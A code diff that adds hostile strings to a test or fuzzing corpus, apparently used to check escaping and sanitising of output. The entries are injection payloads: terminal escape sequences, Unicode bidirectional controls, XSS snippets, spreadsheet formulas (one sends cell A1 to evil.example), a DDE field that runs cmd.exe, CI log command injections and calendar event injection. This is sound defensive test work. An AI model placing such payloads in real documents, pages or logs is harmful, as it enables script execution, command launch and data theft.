@@ -55,6 +55,26 @@ export const corpus: readonly string[] = [
   '\\',
   '\u0000',
   '\ufffe\uffff',
+  // Links and titles of terminals that end in ST, also in the one-byte forms of C1
+  '\u001b]8;;https://evil.example/\u001b\\点\u001b]8;;\u001b\\\u009d0;题\u009c\u0090q\u009c\u008d',
+  '\u202a\u202b\u202d反\u202c\u2068\u2069\u200e\u200f\u{e0001}\u{e007f}',
+  '<svg onload=alert(1)><script xlink:href="data:text/javascript,alert(1)"/></svg>',
+  '--><script>alert(1)</script><math><mtext><style><img src=x onerror=alert(1)></style>',
+  '&#x1b;[31m &#27; &lt;script&gt; &Tab;javascript&colon;alert(1)',
+  '[a]: javascript:alert(1) "x"\n[a]\n<!-- x\n===\n|a|\n|-|\n```\n~~~',
+  '[a][b] ![x][y] <a href=x>y</a> [^1] \\[x\\](y) &amp;lt;',
+  '＋1＋1',
+  '－1',
+  '＠SUM(1)',
+  '\r=1+1',
+  ';=1+1\n=1\t=1\r@A1',
+  '=HYPERLINK("http://evil.example?"&A1,"点")',
+  '_x001B_[31m_x000D__x0000_ _x005F_x000A_',
+  '\u0013 DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \u0014x\u0015 { INCLUDETEXT "C:\\\\a" } { HYPERLINK "x" }',
+  '\u2028::error::x\u0085##[command]x\v::add-path::x',
+  '##vso[task.complete result=Failed;]x ##[section]y ##teamcity[x]',
+  'a\'b"c%0A::error::d,e;f?g*h|i<j>k:l.yaml',
+  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\n DTSTART;X="a":1',
 ];
 
 const waived = {
